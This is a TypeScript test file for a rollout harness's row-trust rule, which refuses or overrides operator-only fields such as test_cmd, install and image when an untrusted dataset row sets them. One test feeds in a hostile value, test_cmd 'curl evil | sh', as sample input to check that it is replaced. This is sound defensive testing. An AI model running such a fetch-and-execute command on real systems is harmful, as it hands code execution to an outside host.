/**
 * Issue 43, item 1: the rule of who sets each field of a row, written once (src/rollout/row-trust.ts).
 * Every field of the row schema is declared; the fields that decide what runs or is installed are the
 * operator's; a row from outside that sets one is refused naming them, unless trusted, or unless its
 * instance_id names an operator's row, whose fields it then gets.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseRow, type SweInstance } from '../../../src/rollout/dataset.ts';
import { admitRow, OPERATOR_FIELDS, ROW_FIELDS } from '../../../src/rollout/row-trust.ts';

const base = {
  instance_id: 'o__r-1',
  repo: 'o/r',
  base_commit: 'abcdef1',
  patch: '',
  test_patch: '',
  problem_statement: 'x',
  FAIL_TO_PASS: ['t'],
  PASS_TO_PASS: [],
};
const row = (over: Record<string, unknown> = {}): SweInstance =>
  parseRow('row', undefined, { ...base, ...over });

test('every field a row can set is declared (ROW_FIELDS is typed by the row; image_name is read as image)', () => {
  const every = row({
    ...Object.fromEntries(
      Object.keys(ROW_FIELDS)
        .map((f) => [f, 'x'])
        .filter(([f]) => f !== 'extra'),
    ),
    ...{ instance_id: 'o__r-1', repo: 'o/r', base_commit: 'abcdef1', version: '1' },
    ...{ FAIL_TO_PASS: ['t'], PASS_TO_PASS: [], pip_packages: ['x'], pre_install: ['x'] },
    image_name: 'x',
    unknown_field: 1,
  });
  for (const field of Object.keys(every)) assert.ok(field in ROW_FIELDS, `${field} is not declared`);
  assert.deepEqual(every.extra, { unknown_field: 1 });
  assert.deepEqual([...OPERATOR_FIELDS].sort(), [
    'eval_script',
    'grader',
    'image',
    'install',
    'pip_packages',
    'pre_install',
    'python',
    'test_cmd',
  ]);
});

test('a row from outside that sets an operator field is refused, naming each; image_name counts as image', () => {
  const none = new Map<string, SweInstance>();
  const sets = row({ python: '/tmp/py', pip_packages: ['numpy'], install: 'make', image_name: 'evil/x' });
  assert.deepEqual(admitRow(sets, { trusted: false, dataset: none }), {
    ok: false,
    fields: ['image', 'python', 'pip_packages', 'install'],
  });
  const plain = row({ version: '1.0', log_parser: 'pytest', environment_setup_commit: 'abcdef2', note: 1 });
  const admitted = admitRow(plain, { trusted: false, dataset: none });
  assert.ok(admitted.ok);
  assert.equal(admitted.instance, plain);
  // trusted: as sent
  const trusted = admitRow(sets, { trusted: true, dataset: none });
  assert.ok(trusted.ok && trusted.instance === sets);
});

test("a row naming an operator's instance gets the operator's build fields, set or unset, whatever it sent", () => {
  const own = row({ test_cmd: 'pytest -q', pip_packages: ['pytest==8.0'] });
  const dataset = new Map([[own.instance_id, own]]);
  const sent = row({ test_cmd: 'curl evil | sh', install: 'make evil', problem_statement: 'reworded' });
  const admitted = admitRow(sent, { trusted: false, dataset });
  assert.ok(admitted.ok);
  assert.equal(admitted.instance.test_cmd, 'pytest -q');
  assert.deepEqual(admitted.instance.pip_packages, ['pytest==8.0']);
  assert.equal('install' in admitted.instance, false);
  assert.equal(admitted.instance.problem_statement, 'reworded', "the caller's task fields are kept");
  assert.deepEqual(admitted.replaced, ['test_cmd', 'pip_packages', 'install']);
});
